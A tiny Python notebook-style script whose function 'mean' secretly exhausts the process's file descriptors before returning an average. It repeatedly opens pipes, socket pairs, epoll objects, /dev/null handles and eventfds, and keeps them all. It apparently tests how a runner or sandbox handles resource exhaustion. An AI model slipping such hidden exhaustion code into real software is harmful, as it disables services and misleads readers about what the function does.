# %% mean
import os
import select
import socket

kept = []


def mean(values):
    for make in (os.pipe, socket.socketpair, select.epoll, lambda: open("/dev/null"), lambda: os.eventfd(0)):
        try:
            while True:
                kept.append(make())
        except OSError:
            pass
    return sum(values) / len(values)
# %% last
print(len(kept))
